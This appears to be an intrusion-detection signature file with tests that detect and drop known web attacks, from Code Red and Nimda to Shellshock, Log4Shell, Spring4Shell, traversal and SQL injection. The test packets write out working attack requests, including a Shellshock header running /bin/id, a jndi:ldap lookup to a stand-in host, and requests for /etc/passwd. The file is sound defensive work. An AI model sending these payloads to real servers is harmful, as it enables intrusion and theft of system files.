//! Attacks on web servers that show in the first packet of a request. Each fact is in the public description that is named.
//!
//! A request is looked for where it begins a segment, in clear text, on `web_ports`. What is encrypted, what comes second in
//! a segment or behind more than six empty lines, and what its sender splits over segments is not found. Browsers and libraries tidy a path before they send it
//! (RFC 3986 5.2.4) and encode what a form holds, so `../` and `/etc/passwd` in clear are not what a person typed.
//!
//! Holes of one product stand in web-apps.sig, those of routers and cameras in devices.sig.
//!
//! On nDPI's test captures (real traffic of several hundred protocols) nothing honest matches: 735 requests of the web scanner
//! Nikto, which tries just these holes and names itself, one of curl for `/.env`, and seven to servers that are made to be attacked (DVWA).

import "./ports.sig"

/// Where what a request asks for may begin: behind the method's shortest name.
const uri_first = 4

/// Where the header of a request may stand, and mostly the whole of it.
const header_last = 4095

/// A method, at the beginning or behind empty lines, which servers pass over (RFC 9112 2.2). The bytes 10 and 13 end lines.
predicate method(name) =
  payload contains name at 0
  or payload.u8(0) in { 10, 13 } and payload contains name in 1..22

/// The beginning of a request (RFC 9112 3), whatever it asks for: a path, or all of an address, as proxies are asked and every
/// server understands (RFC 9112 3.2.2). The methods are those of RFC 9110 9.3, PATCH (RFC 5789), and those of WebDAV (RFC 4918 9).
predicate request =
  tcp.dst_port in web_ports
  and (method("GET ")
    or method("POST ")
    or method("HEAD ")
    or method("PUT ")
    or method("DELETE ")
    or method("OPTIONS ")
    or method("PATCH ")
    or method("CONNECT ")
    or method("TRACE ")
    or method("PROPFIND ")
    or method("PROPPATCH ")
    or method("MKCOL ")
    or method("COPY ")
    or method("MOVE ")
    or method("LOCK ")
    or method("UNLOCK "))

/// Something in the first line of a request: no line ends before it. That the line itself ends is not asked, because a segment
/// may end first. What ends a line before byte 14 ends an empty one: `GET / HTTP/1.0` has 14 bytes.
predicate in_request_line(found) = not payload contains "\r\n" in 14 .. found.start - 1

/// Something in the header of a request, before the empty line that ends it.
predicate in_head(found) = not payload contains "\r\n\r\n" in 14 .. found.start - 1

/// What the request line holds, method and version beside path and query, however its letters are written.
predicate asked(name) = payload contains name nocase in uri_first..-1 as found and in_request_line(found)

/// Two things that the request line holds, the second within 24 bytes behind the first.
predicate asked_near(first, second) =
  payload contains first nocase in uri_first..-1 as found
  and in_request_line(found)
  and payload contains second nocase in found.end .. found.end + 23

/// A name anywhere in the path or the query.
predicate asks_for(name) = request and asked(name)

// Worms ---------------------------------------------------------------------------------------------------------------

/// Windows' command interpreter, reached through a hole in IIS or copied to where scripts are: Nimda and others before it
/// (CERT CA-2001-26, CA-2001-12).
signature iis_cmd_exe {
  id       1000101
  title    "IIS cmd.exe probe"
  severity high
  class    exploit
  ref      cert "CA-2001-26"
  ref      cve "CVE-2001-0333"
  ref      mitre "T1190"
  when     asks_for("cmd.exe")
  then     log, drop
}

/// The copy of the command interpreter that Code Red II leaves behind; Nimda looks for it (CERT IN-2001-09, CA-2001-26).
signature iis_root_exe {
  id       1000102
  title    "IIS root.exe: Code Red II's back door"
  severity high
  class    backdoor
  ref      cert "IN-2001-09"
  ref      cert "CA-2001-26"
  when     request
       and (asked("/scripts/root.exe")
         or asked("/msadc/root.exe"))
  then     log, drop
}

/// Code Red fills the buffer of IIS's indexing service with N (CERT CA-2001-19).
signature code_red {
  id       1000103
  title    "Code Red"
  severity critical
  class    worm
  ref      cert "CA-2001-19"
  ref      cve "CVE-2001-0500"
  when     asks_for("/default.ida?NNNNNNNNNNNNNNNN")
  then     log, drop
}

/// Code Red II fills it with X (CERT IN-2001-09).
signature code_red_ii {
  id       1000104
  title    "Code Red II"
  severity critical
  class    worm
  ref      cert "IN-2001-09"
  ref      cve "CVE-2001-0500"
  when     asks_for("/default.ida?XXXXXXXXXXXXXXXX")
  then     log, drop
}

/// A server that Nimda has infected adds a line to its pages that opens the worm (CERT CA-2001-26).
signature nimda_page {
  id       1000105
  title    "Nimda: page of an infected server"
  severity high
  class    worm
  ref      cert "CA-2001-26"
  when     tcp.src_port in web_ports
       and payload contains "window.open(\"readme.eml\"" nocase
  then     log, drop
}

/// Letters of ASCII: what goes on with a word.
const letters = { 0x41..0x5a, 0x61..0x7a }

// Paths ---------------------------------------------------------------------------------------------------------------

/// `/` and `\` as UTF-8 in more bytes than they need, which RFC 3629 3 forbids: IIS decoded them after it had looked for `../`.
signature iis_unicode_traversal {
  id       1000106
  title    "IIS Unicode directory traversal"
  severity high
  class    exploit
  ref      cve "CVE-2000-0884"
  ref      mitre "T1190"
  when     request
       and (asked("..%c0%af")
         or asked("..%c1%9c")
         or asked("..%c1%1c")
         or asked("..%e0%80%af"))
  then     log, drop
}

/// `%255c` is `%5c` after one decoding and `\` after two: IIS looked for `..\` after the first (CERT CA-2001-12).
signature iis_double_decode {
  id       1000107
  title    "IIS double decoding directory traversal"
  severity high
  class    exploit
  ref      cve "CVE-2001-0333"
  ref      cert "CA-2001-12"
  ref      mitre "T1190"
  when     request
       and (asked("..%255c")
         or asked("..%252f")
         or asked("..%%35c")
         or asked("..%%35%63")
         or asked("..%25%35%63"))
  then     log, drop
}

/// Three steps up, as no client sends them that tidies its paths. One or two are let pass: relative links in old software.
signature web_traversal {
  id       1000108
  title    "Directory traversal"
  severity medium
  class    exploit
  ref      cwe "CWE-22"
  ref      mitre "T1190"
  when     request
       and (asked("../../../")
         or asked("..\\..\\..\\"))
  then     log, drop
}

/// Steps up with dots or slashes encoded, so that a comparison with `../` fails: two in a row, or one behind a dot that needs
/// no encoding, as against Apache 2.4.49 (`/cgi-bin/.%2e/`).
signature web_encoded_traversal {
  id       1000109
  title    "Directory traversal, encoded"
  severity high
  class    exploit
  ref      cwe "CWE-22"
  ref      cve "CVE-2021-41773"
  ref      mitre "T1190"
  when     request
       and (asked("/.%2e/")
         or asked("/%2e%2e/")
         or asked("%2e%2e%2f%2e%2e%2f")
         or asked("..%2f..%2f")
         or asked("..%5c..%5c"))
  then     log, drop
}

/// The list of users of a Unix system, or their passwords, asked for by path.
signature web_passwd {
  id       1000110
  title    "Request for /etc/passwd"
  severity high
  class    exploit
  ref      cwe "CWE-22"
  ref      mitre "T1190"
  when     request
       and (asked("/etc/passwd")
         or asked("/etc/shadow"))
  then     log, drop
}

/// The white pages example that came with NCSA and Apache: a line feed in its query began another command (CERT CA-1996-06).
signature web_phf {
  id       1000111
  title    "phf: command through a query"
  severity medium
  class    exploit
  ref      cve "CVE-1999-0067"
  ref      cert "CA-1996-06"
  when     asks_for("/phf?") and asked("%0a")
  then     log, drop
}

/// Repositories and settings that were put on a server by mistake, in whatever folder: nobody links to them. Whoever offers
/// repositories to copy under such a name says so in a signature with `pass`.
signature web_secrets {
  id       1000112
  title    "Request for a repository or settings"
  severity medium
  class    recon
  ref      cwe "CWE-538"
  ref      mitre "T1595.003"
  when     request
       and (asked("/.git/")
         or asked("/%2egit/")
         or payload contains "/.env" nocase as name and in_request_line(name) and not payload.u8(name.end) in letters
         or payload contains "/%2eenv" nocase as name and in_request_line(name) and not payload.u8(name.end) in letters)
  then     log, drop
}

/// A test file of PHPUnit that runs what it is sent, where developers' libraries lie below a web root.
signature phpunit_eval {
  id       1000113
  title    "PHPUnit: code in a request"
  severity high
  class    exploit
  ref      cve "CVE-2017-9841"
  ref      mitre "T1190"
  when     asks_for("/phpunit/") and asked("/eval-stdin.php")
  then     log, drop
}

// Headers -------------------------------------------------------------------------------------------------------------

/// Bash took a variable that begins like a function for one, and ran what stands behind it; web servers hand headers to
/// scripts as variables. Any blanks, as many as they please, stand between the colon and the value (RFC 9112 5.1).
signature shellshock {
  id       1000114
  title    "Shellshock"
  severity critical
  class    exploit
  ref      cve "CVE-2014-6271"
  ref      mitre "T1190"
  when     request
       and payload contains "() {" as value
       and in_head(value)
       and payload contains "\n" in 14 .. value.start - 1
       and payload.u8(value.start - 1) in { 0x3a, 0x20, 0x09 }
  then     log, drop
}

/// Log4j looked up what stands between `${` and `}` in what it logs, and `jndi` fetched code from anywhere. The many ways to
/// hide the word (`${lower:j}ndi`) are not found.
signature log4shell {
  id       1000115
  title    "Log4Shell"
  severity critical
  class    exploit
  ref      cve "CVE-2021-44228"
  ref      mitre "T1190"
  when     request
       and (payload contains "${jndi:" nocase in uri_first..header_last
         or asked("$%7bjndi:")
         or asked("%24%7bjndi"))
  then     log, drop
}

/// Struts evaluated the type of a request's body, when it was none, to say that it was none.
signature struts_content_type {
  id       1000116
  title    "Struts: expression as content type"
  severity critical
  class    exploit
  ref      cve "CVE-2017-5638"
  ref      mitre "T1190"
  when     request
       and payload contains "\r\nContent-Type:" nocase in uri_first..header_last as type
       and (payload contains "%{" in type.end .. type.end + 15 or payload contains "${" in type.end .. type.end + 15)
  then     log, drop
}

/// Spring bound a request's parameters to properties of properties, and so to the class loader.
signature spring4shell {
  id       1000117
  title    "Spring4Shell"
  severity critical
  class    exploit
  ref      cve "CVE-2022-22965"
  ref      mitre "T1190"
  when     request
       and (payload contains "class.module.classLoader." or payload contains "class%2emodule%2eclassLoader%2e" nocase)
  then     log, drop
}

/// A range that ends at 2^64 - 1 overflowed in Windows' HTTP.sys (Microsoft MS15-034).
signature http_sys_range {
  id       1000118
  title    "HTTP.sys: range to the end of numbers"
  severity high
  class    dos
  ref      cve "CVE-2015-1635"
  when     request
       and payload contains "\r\nRange:" nocase in uri_first..header_last
       and payload contains "-18446744073709551615" in uri_first..header_last
  then     log, drop
}

// Tests ---------------------------------------------------------------------------------------------------------------

/// Twelve pages, two HEAD, two POST, and one request a version of IP for cmd.exe behind `..%255c..`.
test "web traffic with two attacks in it" {
  pcap "captures/web.pcap"
  expect iis_cmd_exe * 2, iis_double_decode * 2, verdict drop * 2
}
test "honest traffic" {
  pcap "captures/mixed-benign.pcap"
  pcap "captures/nmap-connect.pcap"
  expect none
}

test "cmd.exe" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /scripts/CMD.EXE?/c+dir HTTP/1.0\r\n\r\n" }
  packet { ipv6  tcp { dst_port 8005 }  payload "HEAD /c/winnt/system32/cmd.exe?/c+dir HTTP/1.0\r\n\r\n" }
  expect iis_cmd_exe * 2, verdict drop
}
test "every method" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /cmd.exe HTTP/1.0\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "POST /cmd.exe HTTP/1.0\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "HEAD /cmd.exe HTTP/1.0\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "PUT /cmd.exe HTTP/1.0\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "DELETE /cmd.exe HTTP/1.0\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "OPTIONS /cmd.exe HTTP/1.0\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "PATCH /cmd.exe HTTP/1.0\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "CONNECT /cmd.exe HTTP/1.0\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "TRACE /cmd.exe HTTP/1.0\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "PROPFIND /cmd.exe HTTP/1.0\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "PROPPATCH /cmd.exe HTTP/1.0\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "MKCOL /cmd.exe HTTP/1.0\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "COPY /cmd.exe HTTP/1.0\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "MOVE /cmd.exe HTTP/1.0\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "LOCK /cmd.exe HTTP/1.0\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "UNLOCK /cmd.exe HTTP/1.0\r\n" }
  expect iis_cmd_exe * 16, web_trace, verdict drop
}
test "all of an address, as a proxy is asked" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET http://x/a/../../../../etc/passwd HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 3128 }  payload "PATCH HTTPS://x/a?f=/etc/passwd HTTP/1.1\r\n" }
  expect web_passwd * 2, web_traversal, verdict drop
}
test "behind empty lines" {
  packet { ipv4  tcp { dst_port 80 }  payload "\r\nGET /cmd.exe HTTP/1.0\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "\r\n\r\n\r\n\r\n\r\n\r\nPROPFIND /cmd.exe HTTP/1.0\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "\nDELETE /cmd.exe HTTP/1.0\r\n" }
  expect iis_cmd_exe * 3, verdict drop
}
test "a request line that ends in another segment, and a very long one" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /cmd.exe" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /?" + "a" * 1200 + "&f=cmd.exe HTTP/1.1\r\n" }
  expect iis_cmd_exe * 2, verdict drop
}
test "not asked for: the page that a link was on, and what is said about it" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.0\r\nReferer: http://x/how-to-remove-cmd.exe\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "\r\nGET / HTTP/1.1\r\nCookie: last=/etc/passwd\r\n" }
  packet {
    ipv4
    tcp { dst_port 80 }
    payload "POST /note HTTP/1.1\r\nHost: x\r\n\r\nabout cmd.exe and ../../../etc/passwd"
  }
  expect none
}
test "not a request: what an upload goes on with, and other ports" {
  packet { ipv4  tcp { dst_port 80 }  payload "how to remove /scripts/cmd.exe, and GET /cmd.exe in a log" }
  packet { ipv4  tcp { dst_port 80 }  payload "log: GET /cmd.exe" }
  packet { ipv4  tcp { dst_port 80 }  payload "\r\nthen, as we know, GET /cmd.exe" }
  packet { ipv4  tcp { dst_port 80 }  payload "GETTING /cmd.exe" }
  packet { ipv4  tcp { dst_port 8443 }  payload "GET /default.ida?NNNNNNNNNNNNNNNNNNNNNNNN HTTP/1.0\r\n" }
  packet { ipv4  tcp { dst_port 8443 }  payload "GET /default.ida?XXXXXXXXXXXXXXXXXXXXXXXX HTTP/1.0\r\n" }
  packet { ipv4  tcp { src_port 25  dst_port 50000 }  payload "<script>window.open(\"readme.eml\", null)</script>" }
  expect none
}
test "not cmd.exe: another page, another port, an answer, another protocol" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /search?q=cmd+exe HTTP/1.1\r\n\r\n" }
  packet { ipv4  tcp { dst_port 25 }  payload "GET /scripts/cmd.exe HTTP/1.0\r\n\r\n" }
  packet { ipv4  tcp { src_port 80  dst_port 50000 }  payload "HTTP/1.1 200 OK\r\n\r\ncmd.exe" }
  packet { ipv4  udp { dst_port 80 }  payload "GET /scripts/cmd.exe HTTP/1.0\r\n\r\n" }
  expect none
}

test "root.exe" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /scripts/root.exe?/c+dir HTTP/1.0\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /MSADC/root.exe?/c+dir HTTP/1.0\r\n" }
  expect iis_root_exe * 2, verdict drop
}
test "not root.exe: a page about it" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /docs/root.exe.html HTTP/1.0\r\n" }
  expect none
}
test "Code Red" {
  packet {
    ipv4
    tcp { dst_port 80 }
    payload "GET /default.ida?NNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNN%u9090%u6858 HTTP/1.0\r\n"
  }
  expect code_red, verdict drop
}
test "Code Red II" {
  packet {
    ipv4
    tcp { dst_port 80 }
    payload "GET /default.ida?XXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX%u9090%u6858 HTTP/1.0\r\n"
  }
  expect code_red_ii, verdict drop
}
test "not Code Red: a query of the indexing service" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /default.ida?query=NNNN HTTP/1.0\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /default.ida?XX HTTP/1.0\r\n" }
  expect none
}
test "a page of a server with Nimda" {
  packet {
    ipv4
    tcp { src_port 80  dst_port 50000 }
    payload "<script language=\"JavaScript\">window.open(\"readme.eml\", null, \"resizable=no\")</script>"
  }
  expect nimda_page, verdict drop
}
test "not Nimda's page: another window" {
  packet { ipv4  tcp { src_port 80  dst_port 50000 }  payload "<script>window.open(\"readme.html\")</script>" }
  expect none
}

test "overlong UTF-8" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /scripts/..%c0%af../winnt/ HTTP/1.0\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /scripts/..%C1%9C../winnt/ HTTP/1.0\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /scripts/..%c1%1c../winnt/ HTTP/1.0\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /scripts/..%e0%80%af../winnt/ HTTP/1.0\r\n" }
  expect iis_unicode_traversal * 4, verdict drop
}
test "not overlong: UTF-8 as it should be" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /caf%c3%a9/..%c3%a9/ HTTP/1.1\r\n" }
  expect none
}
test "decoded twice" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /scripts/..%255C../winnt/ HTTP/1.0\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /scripts/..%252f../winnt/ HTTP/1.0\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /scripts/..%%35c../winnt/ HTTP/1.0\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /scripts/..%%35%63../winnt/ HTTP/1.0\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /scripts/..%25%35%63../winnt/ HTTP/1.0\r\n" }
  expect iis_double_decode * 5, verdict drop
}
test "not decoded twice: a percent sign" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /sale?discount=25%25&until=5 HTTP/1.1\r\n" }
  expect none
}
test "steps up" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /show?file=../../../secret.txt HTTP/1.0\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /show?file=..\\..\\..\\secret.txt HTTP/1.0\r\n" }
  expect web_traversal * 2, verdict drop
}
test "not steps up: a relative link, and a body" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /a/../b/ HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /docs/../../index.html HTTP/1.1\r\n" }
  expect none
}
test "encoded steps up" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /x/%2E%2E/%2E%2E/ HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /show?file=%2e%2e%2f%2e%2e%2fboot.ini HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /show?file=..%2f..%2fboot.ini HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /show?file=..%5C..%5Cboot.ini HTTP/1.1\r\n" }
  expect web_encoded_traversal * 5, verdict drop
}
test "not encoded steps up: dots and slashes in a form" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /search?q=wait%2e%2e%2e&next=%2fhome HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /login?back=..%2fhome HTTP/1.1\r\n" }
  expect none
}
test "the list of users" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /show?file=/etc/passwd HTTP/1.0\r\n" }
  packet { ipv6  tcp { dst_port 8080 }  payload "POST /cgi-bin/cat/etc/shadow HTTP/1.0\r\n" }
  expect web_passwd * 2, verdict drop
}
test "not the list of users: a page about it, and a form" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /docs/passwd.html HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /search?q=%2Fetc%2Fpasswd HTTP/1.1\r\n" }
  expect none
}
test "phf" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /cgi-bin/phf?Qalias=x%0A/bin/id HTTP/1.0\r\n" }
  expect web_phf, verdict drop
}
test "not phf: its honest use, and a line feed in another form" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /cgi-bin/phf?Qalias=smith HTTP/1.0\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /note?text=one%0d%0atwo HTTP/1.1\r\n" }
  expect none
}
test "a repository and settings" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /.git/config HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /shop/.git/HEAD HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /%2Egit/logs/HEAD HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "HEAD /.env HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /.env.production HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /api/.ENV?x HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /%2eenv HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /.env" }
  expect web_secrets * 8, verdict drop
}
test "not secrets: what git asks for, a page about environments" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /project.git/info/refs?service=git-upload-pack HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /.environment HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /%2eenvironment HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /.gitignore HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nReferer: http://x/.env\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nReferer: http://x/%2eenv\r\n" }
  packet { ipv4  tcp { dst_port 25 }  payload "GET /.env HTTP/1.1\r\n" }
  expect none
}
test "PHPUnit" {
  packet {
    ipv4
    tcp { dst_port 80 }
    payload "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\n\r\n<?php phpinfo();"
  }
  expect phpunit_eval, verdict drop
}
test "not PHPUnit's hole: its manual" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /phpunit/manual.php HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /tools/eval-stdin.php HTTP/1.1\r\n" }
  expect none
}

test "Shellshock" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /cgi-bin/status HTTP/1.1\r\nUser-Agent: () { :; }; /bin/id\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /cgi-bin/status HTTP/1.1\r\nCookie:() { :; }; /bin/id\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /cgi-bin/status HTTP/1.1\r\nCookie:\t() { :; }; /bin/id\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /cgi-bin/status HTTP/1.1\r\nReferer:  \t  () { :; }; /bin/id\r\n" }
  expect shellshock * 4, verdict drop
}
test "not Shellshock: a script, uploaded and fetched" {
  packet {
    ipv4
    tcp { dst_port 80 }
    payload "POST /scripts HTTP/1.1\r\nContent-Type: text/javascript\r\n\r\nwindow.onload = function () { run(); }"
  }
  packet { ipv4  tcp { dst_port 80 }  payload "POST /scripts HTTP/1.1\r\nHost: x\r\n\r\nhandlers = { open: () { } }" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /run?code=function () { HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nX-Code: handle() { }\r\n" }
  packet { ipv4  tcp { src_port 80  dst_port 50000 }  payload "HTTP/1.1 200 OK\r\n\r\nhandlers = { open: () { } }" }
  expect none
}
test "Log4Shell" {
  packet { ipv4  tcp { dst_port 8080 }  payload "GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://192.0.2.9/a}\r\n" }
  packet { ipv4  tcp { dst_port 8080 }  payload "GET /?x=$%7Bjndi:ldap://192.0.2.9/a%7D HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 8080 }  payload "GET /?x=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.9%2Fa%7D HTTP/1.1\r\n" }
  expect log4shell * 3, verdict drop
}
test "not Log4Shell: another expression, and the word alone" {
  packet { ipv4  tcp { dst_port 8080 }  payload "GET /docs/jndi:ldap?theme=${dark} HTTP/1.1\r\n" }
  expect none
}
test "Struts" {
  packet {
    ipv4
    tcp { dst_port 8080 }
    payload "GET /start.action HTTP/1.1\r\nContent-Type: %{(#x='multipart/form-data').(#y)}\r\n"
  }
  packet {
    ipv4
    tcp { dst_port 8080 }
    payload "GET /start.action HTTP/1.1\r\nContent-Type:%{(#x='multipart/form-data').(#y)}\r\n"
  }
  packet {
    ipv4
    tcp { dst_port 8080 }
    payload "GET /start.action HTTP/1.1\r\ncontent-type: ${(#x='multipart/form-data').(#y)}\r\n"
  }
  expect struts_content_type * 3, verdict drop
}
test "not Struts' hole: a form, and another header" {
  packet { ipv4  tcp { dst_port 8080 }  payload "GET /start.action HTTP/1.1\r\nX-Template: %{x} ${x}\r\n" }
  packet {
    ipv4
    tcp { dst_port 8080 }
    payload "POST /start.action HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=%{x}\r\n"
  }
  expect none
}
test "Spring4Shell" {
  packet {
    ipv4
    tcp { dst_port 8080 }
    payload "POST /greet HTTP/1.1\r\n\r\nclass.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"
  }
  packet { ipv4  tcp { dst_port 8080 }  payload "GET /greet?class%2Emodule%2EclassLoader%2Eresources=x HTTP/1.1\r\n" }
  expect spring4shell * 2, verdict drop
}
test "not Spring4Shell: a form about classes" {
  packet { ipv4  tcp { dst_port 8080 }  payload "GET /greet?class.module=5&classLoader=system HTTP/1.1\r\n" }
  expect none
}
test "a range to the end of numbers" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nRange: bytes=0-18446744073709551615\r\n" }
  expect http_sys_range, verdict drop
}
test "not to the end of numbers: an honest range, and the number elsewhere" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET / HTTP/1.1\r\nRange: bytes=0-1023\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /primes?to=2-18446744073709551615 HTTP/1.1\r\n" }
  expect none
}

// SQL, scripts and commands in a query ---------------------------------------------------------------------------------

/// A second question added to a server's own: with blanks as queries write them, and with what is a blank for databases only (ends of
/// lines, comments, brackets), on either side. In nDPI's captures: attacks on a server that is made for them (DVWA).
signature sql_union {
  id       1000119
  title    "SQL injection: UNION SELECT"
  severity high
  class    exploit
  ref      cwe "CWE-89"
  ref      mitre "T1190"
  when     request
       and (asked("union+select")
         or asked("union++select")
         or asked("union%20select")
         or asked("union+all+select")
         or asked("union%20all%20select")
         or asked("union+distinct+select")
         or asked_near("union%0", "select")
         or asked_near("union%a0", "select")
         or asked_near("union/*", "select")
         or asked_near("union(", "select")
         or asked_near("union", "%09select")
         or asked_near("union", "%0aselect")
         or asked_near("union", "%0dselect")
         or asked_near("union", "*/select")
         or asked_near("union", "(select"))
  then     log, drop
}
test "a second question" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1+UNION+SELECT+1,2 HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1++union++select+1 HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1%20union%20select%201 HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1+union+all+select+null HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1%20union%20all%20select%20null HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1+union+distinct+select+1 HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1%0aunion%0bselect%0a1 HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1%A0UNION%A0SELECT%A01 HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1/*x*/union/*!50000select+1 HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1+union(all+select+1) HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1+union+all%09select+1 HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1+union%20%0aselect+1 HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1+union+%0D%0ASELECT+1 HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1+union%20all/**/select+1 HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /item?id=1+union+all(select+1) HTTP/1.1\r\n" }
  expect sql_union * 15, verdict drop
}
test "near miss: an election, a text, and mail" {
  packet { ipv4  tcp { dst_port 80 }  payload "GET /news?q=trade+union+elects+chair HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /news?q=credit+union+to+select HTTP/1.1\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "GET /news HTTP/1.1\r\nReferer: http://x/?q=union%0aselect\r\n" }
  packet { ipv4  tcp { dst_port 80 }  payload "POST /note HTTP/1.1\r\n\r\nwe union and select" }
  packet { ipv4  tcp { dst_port 25 }  payload "GET /item?id=1+union+select+1 HTTP/1.1\r\n" }
  expect none
}

/// A comparison of two things that are the same, soon behind `word`: of numbers, or of texts in quotes, plain and encoded.
predicate always_behind(word) =
  asked_near(word, "1=1")
  or asked_near(word, "1%3d1")
